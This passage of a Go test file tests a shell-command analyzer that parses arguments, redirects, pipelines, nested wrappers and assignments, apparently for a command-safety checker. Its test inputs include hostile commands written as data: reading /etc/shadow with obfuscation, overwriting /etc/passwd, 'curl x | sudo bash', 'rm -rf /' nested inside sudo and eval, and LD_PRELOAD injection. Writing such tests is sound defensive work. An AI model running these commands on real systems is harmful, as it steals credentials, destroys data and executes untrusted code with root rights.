		{"cat '~/x'", 0, "~/x", false, false, "~/x"},
		{"cat a~b", 0, "a~b", false, false, "a~b"},
		{"cat $x/.ssh", 0, "*/.ssh", true, true, "*/.ssh"},
		{"cat \"$x\"", 0, "*", true, true, "*"},
		{"cat $(echo /etc)/shadow", 0, "*/shadow", true, true, "*/shadow"},
		{"cat /etc/*", 0, "/etc/*", false, true, "/etc/*"},
		{"cat '/etc/*'", 0, "/etc/*", false, false, `/etc/\*`},
		{"cat /etc/sha?ow", 0, "/etc/sha?ow", false, true, "/etc/sha?ow"},
		{"cat /etc/[s]hadow", 0, "/etc/[s]hadow", false, true, "/etc/[s]hadow"},
		{"cat '[x]'", 0, "[x]", false, false, `\[x\]`},
		{"cat a[b", 0, "a[b", false, true, "*"},
		{"cat x=~/a", 0, "x=~/a", false, false, "x=~/a"},
		{"p=/etc; cat $p/shadow", 0, "/etc/shadow", false, false, "/etc/shadow"},
		{"g='*'; cat /etc/$g", 0, "/etc/*", false, true, "/etc/*"},
		{"g='*'; cat \"/etc/$g\"", 0, "/etc/*", false, false, `/etc/\*`},
		{"cat $'/etc/sh\\x61dow'", 0, "/etc/shadow", false, false, "/etc/shadow"},
		{"cat <(ls)", 0, "*", true, true, "*"},
	}
	for _, tt := range tests {
		s := mustAnalyze(t, tt.src)
		c := s.Commands[len(s.Commands)-1]
		if tt.arg >= len(c.Args) {
			t.Errorf("%q: no arg %d in %s", tt.src, tt.arg, summary(c))
			continue
		}
		w := c.Args[tt.arg]
		if w.Value != tt.value || w.Dynamic != tt.dynamic || w.Glob != tt.glob || w.Pattern != tt.pattern {
			t.Errorf("%q: got {%q dyn=%v glob=%v pat=%q}, want {%q dyn=%v glob=%v pat=%q}",
				tt.src, w.Value, w.Dynamic, w.Glob, w.Pattern, tt.value, tt.dynamic, tt.glob, tt.pattern)
		}
	}
}

// TestRedirects checks redirection operators, descriptors, targets and
// writes, on commands and on the script.
func TestRedirects(t *testing.T) {
	type rd struct {
		op     string
		fd     int
		target string
		write  bool
	}
	tests := []struct {
		src  string
		want []rd // Script.Redirects
	}{
		{"ls > out", []rd{{">", 1, "out", true}}},
		{"ls >> out", []rd{{">>", 1, "out", true}}},
		{"ls 2> err", []rd{{">", 2, "err", true}}},
		{"ls 2>&1", []rd{{">&", 2, "&1", false}}},
		{"ls >&2", []rd{{">&", 1, "&2", false}}},
		{"ls >& file", []rd{{">&", 1, "file", true}}},
		{"ls &> out", []rd{{"&>", 1, "out", true}}},
		{"ls &>> out", []rd{{"&>>", 1, "out", true}}},
		{"ls >| out", []rd{{">|", 1, "out", true}}},
		{"ls <> f", []rd{{"<>", 0, "f", true}}},
		{"ls < in", []rd{{"<", 0, "in", false}}},
		{"ls 3< in", []rd{{"<", 3, "in", false}}},
		{"ls 5> /etc/passwd", []rd{{">", 5, "/etc/passwd", true}}},
		{"cat <<< hi", []rd{{"<<<", 0, "hi\n", false}}},
		{"cat <<EOF\nx $HOME\nEOF", []rd{{"<<", 0, "x ~\n", false}}},
		{"> /etc/passwd", []rd{{">", 1, "/etc/passwd", true}}},
		{"{ ls; } > /etc/passwd", []rd{{">", 1, "/etc/passwd", true}}},
		{"(( x )) > /etc/passwd", []rd{{">", 1, "/etc/passwd", true}}},
		{"echo > ~/.bashrc", []rd{{">", 1, "~/.bashrc", true}}},
		{"echo > $(mktemp)", []rd{{">", 1, "*", true}}},
		{"find . -fprint /etc/passwd", []rd{{"-fprint", -1, "/etc/passwd", true}}},
		{"command time -o /etc/x ls", []rd{{"-o", -1, "/etc/x", true}}},
	}
	for _, tt := range tests {
		s := mustAnalyze(t, tt.src)
		var got []rd
		for _, r := range s.Redirects {
			got = append(got, rd{r.Op, r.FD, r.Target.Value, r.Write})
		}
		if len(got) != len(tt.want) {
			t.Errorf("%q: redirects %v, want %v", tt.src, got, tt.want)
			continue
		}
		for i := range got {
			if got[i] != tt.want[i] {
				t.Errorf("%q: redirect %d = %v, want %v", tt.src, i, got[i], tt.want[i])
			}
		}
	}
	// Redirections reach the commands they apply to.
	s := mustAnalyze(t, "{ ls; sudo rm x; } > /etc/passwd")
	for _, c := range s.Commands {
		if len(c.Redirects) != 1 || c.Redirects[0].Target.Value != "/etc/passwd" || !c.Redirects[0].Write {
			t.Errorf("%s: redirects %v", summary(c), c.Redirects)
		}
	}
}

// TestPipelines checks Pipelines: every command attached to the pipes, in
// order; substitutions inside a stage are not part of the pipeline.
func TestPipelines(t *testing.T) {
	tests := []struct {
		src  string
		want [][]int
	}{
		{"ls", nil},
		{"a | b", [][]int{{0, 1}}},
		{"a | b | c", [][]int{{0, 1, 2}}},
		{"a && b | c; d | e", [][]int{{1, 2}, {3, 4}}},
		{"curl x | sudo bash", [][]int{{0, 1, 2}}},
		{"a | echo $(b | c) | d", [][]int{{1, 2}, {0, 3, 4}}},
		{"a | (b; c)", [][]int{{0, 1, 2}}},
	}
	for _, tt := range tests {
		s := mustAnalyze(t, tt.src)
		if len(s.Pipelines) != len(tt.want) {
			t.Errorf("%q: pipelines %v, want %v", tt.src, s.Pipelines, tt.want)
			continue
		}
		for i := range tt.want {
			if len(s.Pipelines[i]) != len(tt.want[i]) {
				t.Errorf("%q: pipelines %v, want %v", tt.src, s.Pipelines, tt.want)
				break
			}
			for j := range tt.want[i] {
				if s.Pipelines[i][j] != tt.want[i][j] {
					t.Errorf("%q: pipelines %v, want %v", tt.src, s.Pipelines, tt.want)
				}
			}
		}
	}
}

// TestParentDepthVia checks how nested commands are linked.
func TestParentDepthVia(t *testing.T) {
	s := mustAnalyze(t, `sudo bash -c "eval 'rm -rf /'"`)
	want := []struct {
		name     string
		parent   int
		depth    int
		wrappers string
		via      string
	}{
		{"sudo", -1, 0, "", ""},
		{"bash", 0, 0, "sudo", ""},
		{"eval", 1, 1, "sudo bash", "bash -c"},
		{"rm", 2, 2, "sudo bash eval", "eval"},
	}
	if len(s.Commands) != len(want) {
		t.Fatalf("got %q", summaries(s))
	}
	for i, w := range want {
		c := s.Commands[i]
		if c.Name != w.name || c.Parent != w.parent || c.Depth != w.depth || strings.Join(c.Wrappers, " ") != w.wrappers || c.Via != w.via {
			t.Errorf("command %d: %s parent=%d depth=%d wrappers=%v via=%q; want %+v", i, c.Name, c.Parent, c.Depth, c.Wrappers, c.Via, w)
		}
	}
}

// TestAssignments checks that assignments are reported with the command
// they are exported to.
func TestAssignments(t *testing.T) {
	s := mustAnalyze(t, "A=1; LD_PRELOAD=/tmp/x.so ls; env PATH=/tmp rm x; export B=$(id)")
	type as struct {
		name, value string
		cmd         int
	}
	var got []as
	for _, a := range s.Assignments {
		got = append(got, as{a.Name, a.Value.Value, a.Cmd})
	}
	want := []as{{"A", "1", -1}, {"LD_PRELOAD", "/tmp/x.so", 0}, {"PATH", "/tmp", 1}, {"B", "*", -1}}
	if len(got) != len(want) {
		t.Fatalf("assignments %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("assignment %d = %v, want %v", i, got[i], want[i])
		}
	}
}

// TestErrors checks parse errors and limits: an error, never a panic.
func TestErrors(t *testing.T) {
	tests := []struct {
		src   string
		lim   Limits
		want  string // substring of the error
		limit bool   // wraps ErrLimit
	}{
		{`echo "unterminated`, Limits{}, `1:6: reached EOF without closing quote`, false},
		{`ls &&`, Limits{}, `1:4:`, false},
		{`if true; then`, Limits{}, `1:`, false},
		{`bash -c 'echo "x'`, Limits{}, `parse bash -c string: 1:6:`, false},
		{strings.Repeat("a", 100), Limits{MaxBytes: 50}, "more than 50", true},
		{`eval eval eval eval eval ls`, Limits{}, "nesting deeper than 4", true},
		{`bash -c "bash -c 'ls'"`, Limits{MaxDepth: 1}, "nesting deeper than 1", true},
		{`echo {1..100000}`, Limits{}, "more than 4096 words", true},
		{`echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}`, Limits{}, "more than 4096 words", true},
		{`echo {1..10}`, Limits{MaxWords: 5}, "words", true},
		{strings.Repeat("ls; ", 20), Limits{MaxCommands: 10}, "more than 10 commands", true},
		{"x=aaaaaaaaaaaaaaaa" + strings.Repeat("; x=$x$x", 14) + "; echo $x", Limits{}, "expanded word", true},
	}
	for _, tt := range tests {
		s, err := Analyze(tt.src, tt.lim)
		if err == nil {
			t.Errorf("Analyze(%.80q) = %d commands, want error", tt.src, len(s.Commands))
			continue
		}
		if !strings.Contains(err.Error(), tt.want) {
			t.Errorf("Analyze(%.80q) error %q, want %q", tt.src, err, tt.want)
		}
		if errors.Is(err, ErrLimit) != tt.limit {
			t.Errorf("Analyze(%.80q) error %q: errors.Is(ErrLimit) = %v", tt.src, err, !tt.limit)
		}
	}
}

func TestCodeKindString(t *testing.T) {
	for k, want := range map[CodeKind]string{CodeNone: "none", CodeInline: "inline code", CodePiped: "code read from stdin", CodeDynamic: "dynamic code", CodeKind(9): "CodeKind(9)"} {
		if got := k.String(); got != want {
			t.Errorf("%d.String() = %q, want %q", int(k), got, want)
		}
	}
}

// TestConcurrent checks that concurrent analyses (sharing the parser pool)
// give the same results as sequential ones, and that a result does not
// change when later analyses reuse pooled state.
func TestConcurrent(t *testing.T) {
	want := make([][]string, len(analyzeCases))
	for i, tc := range analyzeCases {
		want[i] = summaries(mustAnalyze(t, tc.src))
	}
	kept := mustAnalyze(t, bench200)
	keptWant := summaries(kept)
	done := make(chan error, 4)
	for g := 0; g < 4; g++ {
		go func() {
			for round := 0; round < 5; round++ {
				for i, tc := range analyzeCases {
					s, err := Analyze(tc.src, Limits{})
					if err != nil {
						done <- err
						return
					}
					if got := summaries(s); !equalSlices(got, want[i]) {
						done <- fmt.Errorf("%q: got %q, want %q", tc.src, got, want[i])
						return
					}
				}
			}
			done <- nil
		}()
	}
	for g := 0; g < 4; g++ {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
	if got := summaries(kept); !equalSlices(got, keptWant) {
		t.Errorf("an earlier result changed: %q, want %q", got, keptWant)
	}
}
